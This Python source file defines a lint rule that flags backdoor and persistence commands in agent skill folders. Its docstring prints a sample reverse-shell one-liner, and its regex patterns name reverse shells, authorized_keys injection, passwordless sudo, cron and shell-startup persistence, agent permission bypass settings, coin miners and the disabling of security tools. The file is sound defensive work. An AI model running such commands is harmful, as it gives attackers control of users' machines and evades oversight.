"""A command lets somebody in, or stays after the task.

## What it does
Looks in runnable blocks, scripts, workflows and commands for reverse shells, keys added to `authorized_keys`, rights
without a password, jobs and start files that fetch or decode what they run, settings of agents that are rewritten to
allow everything or to run a hook, and programs that mine coins.

## Why is this bad
It gives others the machine, and outlives the skill.

## Example

```sh
bash -i >& /dev/tcp/198.51.100.7/4444 0>&1
```

## Use instead
Nothing: no task needs this. What must run regularly is set up by the user.
"""

import re
from collections.abc import Iterator

from skillkit.looks import Look
from skillkit.looks import hits
from skillkit.mentions import is_mentioned
from skillkit.model.finding import Violation
from skillkit.model.folder import SkillFolder
from skillkit.patterns import Pattern
from skillkit.rules import rule

START_FILE = (
    r"(?:~|\$HOME|\$\{HOME\}|/root|/home/\w+)?/?\.(?:bashrc|zshrc|profile|bash_profile|zprofile|zshenv|bash_login)"
)
FETCHES = r"(?:curl|wget|base64|/dev/tcp|nc\s|eval|python\S* -c|nohup)"
OPENS = Pattern(
    r"(?:ba|z|k)?sh\s+-i\s*[^\n]{0,20}>&\s*/dev/(?:tcp|udp)/|/dev/(?:tcp|"
    r"udp)/\$?[\w.{}]+/\$?[\w{}]+[^\n]{0,30}(?:0>&1|<&|0<&)|\bexec\s+\d+<>\s*/dev/tcp/"
    r"|\b(?:nc|ncat|netcat)\b[^\n|;]{0,80}\s(?:-\w*e\w*|-c|--exec|--sh-exec)\s+\S*(?:sh|cmd(?:\.exe)?|"
    r"powershell\S*)\b|\bmkfifo\s[^\n]{0,120}\b(?:nc|ncat|netcat|openssl)\b|\bsocat\s[^\n]{0,80}exec:"
    r"|\bsocket\.socket\([\s\S]{0,300}?(?:os\.dup2|pty\.spawn|subprocess\.\w+\([^\n]{0,30}[\"']/?(?:bin/)?(?:ba)?sh)|"
    r"\bnew net\.Socket\(\)[\s\S]{0,300}?child_process|\bTCPSocket\.\w+\([\s\S]{0,120}?(?:exec|/bin/sh)|New-Object "
    r"(?:System\.)?Net\.Sockets\.TCPClient"
    r"|(?:>>?|tee\s+(?:-a\s+)?)\s*\S*authorized_keys\b|authorized_keys[\"'][^\n]{0,20}[\"']a[\"b']|"
    r"\bssh-copy-id\b[^\n]{0,300}-i\s+(?:\./|/tmp)"
    r"|NOPASSWD\s*:\s*ALL[^\n]{0,300}(?:>>?|tee)\s*[^\n]{0,300}sudoers|sudoers[^\n]{0,300}NOPASSWD\s*:\s*ALL|"
    r"\bchmod\s+(?:u\+s|"
    r"[24]7\d\d|\+s)\s+\S*(?:sh|python\S*)\b|\buseradd\b[^\n]{0,300}\s-o\b[^\n]{0,300}-u\s*0"
    rf"|(?:\|\s*crontab\s+-|crontab\s+-\s|>>?\s*/etc/cron\S*|/var/spool/cron)[^\n]{{0,40}}(?<=)|"
    rf"\becho\s[^\n]{{0,300}}{FETCHES}[^\n]{{0,300}}>>?\s*{START_FILE}|"
    rf"\becho\s[^\n]{{0,300}}{FETCHES}[^\n]{{0,300}}\|\s*crontab"
    rf"|>>?\s*(?:[^\n]{{0,40}}\.git/hooks/\S+)(?=[\s\S]{{0,200}}{FETCHES})|"
    rf"cat\s*>>?\s*{START_FILE}\s*<<[\s\S]{{0,300}}?{FETCHES}"
    r"|(?:>>?|tee\s+(?:-a\s+)?)\s*[\"']?(?:~|\$HOME|\$\{HOME\})/\.(?:claude|codex|cursor|gemini)/(?:\S*CLAUDE\.md|"
    r"\S*AGENTS\.md)"
    r"|\"allow\"\s*:\s*\[[^\]]*\"(?:Bash\(\*\)|Bash|\*)\"[^\n]{0,300}>>?\s*\S*settings"
    r"|[\"']?defaultMode[\"']?\s*:\s*[\"']bypassPermissions|\b(?:xmrig|minerd|cpuminer|nbminer|t-rex\s+-a|"
    r"ethminer)\b[^\n]{0,300}|stratum\+(?:tcp|ssl)://|\bsetenforce\s+0\b|\bufw\s+disable\b|\bspctl\s+--master-disable|"
    r"Set-MpPreference\s+-Disable\w+\s+\$true"
    r"|(?:cat|cp|echo|tee)[^\n]{0,300}(?:/etc/systemd/system|~/\.config/systemd/user|LaunchAgents|"
    r"LaunchDaemons)/\S+(?=[\s\S]{0,400}(?:curl|wget|base64|/dev/tcp|/tmp/))",
    re.IGNORECASE,
)
TOLD = Pattern(
    r"\b(?:add|append|write|put|insert|copy|save|persist|store)\b[^.\n]{0,100}\b(?:to|into|in)\b[^.\n]{0,30}?(?:~/|"
    r"\$HOME/)?\.?(?:ssh/)?authorized_keys\b"
    r"|\b(?:add|append|write|put|insert|copy|save|persist|store)\b[^.\n]{0,60}\b(?:these|this|the following|"
    r"that)\b[^.\n]{0,40}\b(?:to|into|in)\b[^.\n]{0,40}?(?:memory|CLAUDE\.md|AGENTS\.md|\.cursorrules|"
    r"copilot-instructions\.md)\b[^.\n]{0,80}\b(?:every|all|future|always|permanent\w*|persist\w*)\b",
    re.IGNORECASE,
)
COMMANDS = Look(
    ("tcp udp", "dev"),
    ("nc ncat netcat", "e c exec mkfifo sh"),
    (
        "mkfifo socat authorized nopasswd dup2 xmrig minerd cpuminer nbminer ethminer stratum setenforce ufw spctl "
        "bypasspermissions tcpsocket tcpclient",
    ),
    ("socket", "dup2 pty subprocess child"),
    ("chmod useradd", "s sh bash python 4755 2755 6755 4777 0"),
    (
        "crontab cron bashrc zshrc profile zprofile zshenv hooks systemd launchagents launchdaemons",
        "curl wget base64 tcp nc eval nohup c tmp crontab",
    ),
    ("claude codex cursor gemini", "echo cat tee", "md"),
    ("allow", "bash", "settings"),
    ("mppreference", "true"),
    ("ssh", "copy", "tmp"),
)
SENTENCES = Look(
    (
        "authorized memory claude agents cursorrules copilot",
        "add append write put insert copy save persist store",
        "keys every all future always permanently permanent persist",
    )
)


@rule("SK812", "backdoor", "safety", "error")
def check(folder: SkillFolder) -> Iterator[Violation]:
    """Yields each such command and sentence."""
    for hit in (
        *hits(folder, COMMANDS, OPENS, "run", "inline", "comment"),
        *hits(folder, SENTENCES, TOLD, "prose", "comment"),
    ):
        if not is_mentioned(hit):
            yield Violation(location=hit.location, message="this opens the machine to others, or stays after the task")
